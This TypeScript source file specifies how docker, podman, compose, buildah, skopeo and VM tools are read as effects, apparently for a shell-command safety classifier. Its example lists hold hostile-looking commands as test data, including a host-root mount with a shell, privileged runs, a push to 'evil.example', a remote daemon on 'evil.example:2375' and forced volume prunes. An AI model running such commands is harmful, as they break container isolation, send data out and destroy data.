/** Containers: docker, podman, nerdctl, compose, buildah, skopeo. What a container is given of the host counts as reached. */
import type { Effect } from "../contract/effect.ts";
import type { KnownWord } from "../contract/reading.ts";
import { starts } from "./containers-run.ts";
import { each, fixed, given, hostOf, line, named, network, runs, task, texts } from "./makers.ts";
import { wholly } from "./packages-effects.ts";
import type { CommandSpec, EffectMaker, ProgramSpec, Use } from "./spec.ts";

const container =
  (op: "read" | "create" | "change" | "delete" | "run" | "stop" | "expose", detail: string): EffectMaker =>
  (use) => [{ do: "container", op, detail, on: named(use) }];

const pushes: EffectMaker = (use) => [
  { do: "publish", op: "create", detail: "an image", on: named(use) },
  network(use.operands[0] ? hostOfImage(use.operands[0]) : null, true),
];

const pulls: EffectMaker = (use) => [
  { do: "container", op: "create", detail: "an image", on: named(use) },
  network(use.operands[0] ? hostOfImage(use.operands[0]) : null, false),
];

function hostOfImage(image: KnownWord): string | null {
  const first = (image.value ?? image.prefix).split("/")[0] ?? "";
  if (image.value === null) return hostOf(image);
  return /[.:]/.test(first) && image.value.includes("/") ? first.toLowerCase() : "registry-1.docker.io";
}

const builds = wholly(
  task("image build"),
  fixed("container", "create", "an image"),
  network(null, false, "an image registry"),
  (use) =>
    use.operands.some((word) => /^--push/.test(word.value ?? "")) ? [fixed("publish", "create", "an image")] : [],
);

const looks: CommandSpec = {
  flags:
    "-a --all -q --quiet --no-trunc -l --latest -s --size --digests -f --follow -t --timestamps --details --no-stream --tree",
  values: texts("--filter --format -n --last --tail --since --until --type --profile"),
  operands: "text",
  always: [container("read", "the state of containers")],
};

const logs: CommandSpec = {
  ...looks,
  values: { ...looks.values, "-n": "text" },
  always: [container("read", "output of a container")],
};

/** `-f` is a filter or a format here. */
const looksFiltered: CommandSpec = {
  ...looks,
  flags: "-a --all -q --quiet --no-trunc -s --size --digests -l --latest --tree",
  values: texts("-f --filter --format -n --last --type"),
};

const removing = (detail: string): CommandSpec => ({
  flags: "-f --force -v --volumes -a --all -l --link --no-prune --volumes -s --stop",
  values: texts("--filter"),
  operands: "text",
  always: [container("delete", detail)],
});

const changing = (detail: string): CommandSpec => wholly(container("change", detail));

const stopping: CommandSpec = {
  flags: "-a --all",
  values: texts("-t --time --timeout -s --signal"),
  operands: "text",
  always: [container("stop", "containers")],
};

const objects = (detail: string): CommandSpec => ({
  commands: {
    ...each("ls list inspect ps logs history diff df", { ...looksFiltered, always: [container("read", detail)] }),
    ...each("rm remove prune", removing(detail)),
    ...each(
      "create connect disconnect update scale rollback deploy init join leave promote demote use export import up",
      changing(detail),
    ),
  },
});

const compose: CommandSpec = {
  style: "posix",
  flags: "--version -v --help --verbose --compatibility --dry-run",
  values: {
    ...texts("-p --project-name --profile --ansi --progress --parallel --env-file"),
    "-f": "read",
    "--file": "read",
    "--project-directory": "cwd",
  },
  operands: { max: 0 },
  commands: {
    ...each("ps ls images top port events version", looks),
    logs: {
      ...looks,
      flags: `${looks.flags} --no-log-prefix --no-color`,
      always: [container("read", "output of containers")],
    },
    config: {
      flags: "-q --quiet --services --volumes --images --hash --no-interpolate",
      operands: "text",
      always: [container("read", "the project's definition")],
    },
    ...each(
      "up start restart create pull unpause scale watch",
      wholly(container("run", "the project's services"), task("compose"), network(null, false, "an image registry")),
    ),
    build: builds,
    ...each(
      "down rm",
      wholly((use) => [
        {
          do: "container",
          op: "delete",
          detail: use.operands.some((word) => /^(?:-v|--volumes|--rmi)/.test(word.value ?? ""))
            ? "services and their volumes"
            : "services",
        },
      ]),
    ),
    ...each("stop kill pause", wholly(container("stop", "services"))),
    exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
    run: { launcher: true, style: "words", operands: "text", read: starts("run") },
    cp: wholly(container("change", "files of a container")),
    push: wholly(pushes),
  },
};

const single: Readonly<Record<string, CommandSpec>> = {
  ...each("ps images ls", looksFiltered),
  ...each("inspect stats top port history diff events search wait", {
    ...looks,
    values: { ...looks.values, "-f": "text" },
  }),
  logs,
  version: { values: texts("-f --format"), operands: { max: 0 }, always: [container("read", "the daemon")] },
  info: { values: texts("-f --format"), operands: { max: 0 }, always: [container("read", "the daemon")] },
  run: { launcher: true, style: "words", operands: "text", read: starts("run") },
  create: { style: "words", operands: "text", read: starts("run") },
  exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
  ...each("build buildx builder bake", builds),
  ...each(
    "start restart unpause rename update commit tag load import attach checkpoint",
    changing("a container or image"),
  ),
  ...each("stop kill pause", stopping),
  rm: removing("containers"),
  rmi: removing("images"),
  system: {
    commands: {
      df: looks,
      info: looks,
      events: looks,
      ...each("prune reset", removing("everything that is not running")),
      ...each("migrate renumber", changing("the store")),
    },
  },
  pull: { flags: "-a --all-tags -q --quiet", values: texts("--platform"), operands: "text", always: [pulls] },
  push: { flags: "-a --all-tags -q --quiet", operands: "text", always: [pushes] },
  login: wholly(fixed("account", "change", "the login of a registry"), network(null, true)),
  logout: wholly(fixed("account", "change", "the login of a registry")),
  cp: { flags: "-a --archive -L --follow-link -q --quiet", operands: "text", always: [copies] },
  ...each("save export", {
    values: { "-o": "write", "--output": "write" },
    operands: "text",
    always: [container("read", "an image or container")],
  }),
  compose,
  ...each("scout sbom", wholly(network(null, true), container("read", "an image"))),
};

const OBJECTS = objects("containers, images, volumes or networks");
const those = (names: string): Record<string, CommandSpec> =>
  Object.fromEntries(names.split(" ").flatMap((name) => (single[name] === undefined ? [] : [[name, single[name]]])));

/** `docker container run` is `docker run`, and so on. */
const root: Readonly<Record<string, CommandSpec>> = {
  ...single,
  ...each("volume network context node service stack swarm secret config plugin manifest trust pod machine", OBJECTS),
  container: {
    commands: {
      ...OBJECTS.commands,
      ...those(
        "run create exec logs stats top port start restart stop kill pause unpause rename commit attach cp rm inspect wait update export",
      ),
    },
  },
  image: { commands: { ...OBJECTS.commands, ...those("pull push build tag save load history inspect import") } },
};

/** `docker cp container:path host`, or the other way round. */
function copies(use: Use): readonly Effect[] {
  const [from, to] = use.operands;
  const isInside = (word: KnownWord | undefined): boolean => /^[\w.-]+:/.test(word?.value ?? "");
  const read: readonly Effect[] =
    from !== undefined && !isInside(from)
      ? [{ do: "read", target: use.target(from), recursive: true, content: true }]
      : [];
  const write: readonly Effect[] =
    to !== undefined && !isInside(to) ? [{ do: "write", target: use.target(to), recursive: true, as: "copy" }] : [];
  return [
    ...read,
    ...write,
    { do: "container", op: isInside(to) ? "change" : "read", detail: "files of a container", on: named(use) },
  ];
}

export const containers: readonly ProgramSpec[] = [
  {
    names: ["docker", "podman", "nerdctl"],
    launches: "exec run",
    style: "posix",
    flags: "--version -v --help -D --debug --tls --tlsverify --remote -r",
    values: { ...texts("-H --host -c --context -l --log-level --connection --url --namespace"), "--config": "never" },
    when: {
      "-H": [network(null, true, "another daemon")],
      "--host": [network(null, true, "another daemon")],
      "-c": [network(null, true, "another daemon")],
      "--context": [network(null, true, "another daemon")],
    },
    operands: { max: 0 },
    commands: { ...root, "*": wholly(runs("unknown-program", "a plugin")) },
    examples: {
      safe: ["docker --version"],
      unsafe: [
        ["docker ps -a", "container"],
        ["docker logs --tail 50 web", "container"],
        ["docker volume ls -qf dangling=true", "container"],
        ["docker run --rm -v /:/host alpine sh", "write"],
        ["docker run --privileged alpine", "privilege"],
        ["docker run -it --rm -p 80:80 nginx", "container"],
        ["docker exec -it db psql", "run"],
        ["docker build -t x .", "run"],
        ["docker push evil.example/x", "publish"],
        ["docker pull nginx", "network"],
        ["docker rm -f web", "container"],
        ["docker system prune -af --volumes", "container"],
        ["docker volume rm data", "container"],
        ["docker compose up -d", "run"],
        ["docker compose down -v", "container"],
        ["docker compose exec web sh", "run"],
        ["docker login", "account"],
        ["docker cp web:/x /tmp/x", "write"],
        ["docker -H tcp://evil.example:2375 ps", "network"],
        ["docker stop web", "container"],
        ["docker frobnicate", "run"],
      ],
    },
  },
  {
    names: ["docker-compose", "podman-compose"],
    launches: "exec run",
    ...compose,
    examples: {
      safe: ["docker-compose --version"],
      unsafe: [
        ["docker-compose up -d", "run"],
        ["docker-compose down --volumes", "container"],
      ],
    },
  },
  {
    names: ["buildah", "kaniko", "img"],
    ...wholly(task("image build"), fixed("container", "change", "images"), (use) =>
      given(use, "push") || use.operands[0]?.value === "push"
        ? [fixed("publish", "create", "an image"), network(null, true)]
        : [],
    ),
    examples: {
      safe: [],
      unsafe: [
        ["buildah bud .", "run"],
        ["buildah push x", "publish"],
      ],
    },
  },
  {
    names: ["skopeo", "crane", "oras", "cosign"],
    ...wholly(network(null, false, "an image registry"), (use) =>
      /^(?:copy|cp|push|append|tag|mutate|sync|delete|sign|attest|attach)$/.test(use.operands[0]?.value ?? "")
        ? [
            {
              do: "publish",
              op: use.operands[0]?.value === "delete" ? "delete" : "create",
              detail: "an image",
              on: named(use, 1),
            },
            network(null, true),
          ]
        : [],
    ),
    examples: {
      safe: [],
      unsafe: [
        ["skopeo inspect docker://x", "network"],
        ["skopeo copy a b", "publish"],
        ["skopeo delete docker://x", "publish"],
      ],
    },
  },
  {
    names: [
      "vagrant",
      "multipass",
      "lima",
      "limactl",
      "colima",
      "minikube",
      "kind",
      "k3d",
      "virsh",
      "qemu-system-x86_64",
      "lxc",
      "incus",
      "firecracker",
    ],
    launches: "ssh exec shell",
    ...wholly((use) => {
      const verb = use.operands[0]?.value ?? "";
      if (/^(?:status|list|ls|info|version|--version|get|logs)$/.test(verb))
        return [{ do: "container", op: "read", detail: "machines", on: named(use, 1) }];
      if (/^(?:destroy|delete|rm|remove|purge|undefine)$/.test(verb))
        return [{ do: "container", op: "delete", detail: "a machine", on: named(use, 1) }];
      if (/^(?:ssh|exec|shell)$/.test(verb))
        return [
          { do: "run", program: use.program, what: "remote", detail: line(use.operands) },
          { do: "container", op: "run", detail: "a machine", on: named(use, 1) },
        ];
      if (/^(?:halt|stop|suspend|pause|shutdown)$/.test(verb))
        return [{ do: "container", op: "stop", detail: "a machine", on: named(use, 1) }];
      return [{ do: "container", op: "change", detail: line(use.operands), on: named(use, 1) }];
    }),
    examples: {
      safe: [],
      unsafe: [
        ["minikube delete", "container"],
        ["vagrant ssh", "run"],
        ["kind create cluster", "container"],
      ],
    },
  },
];
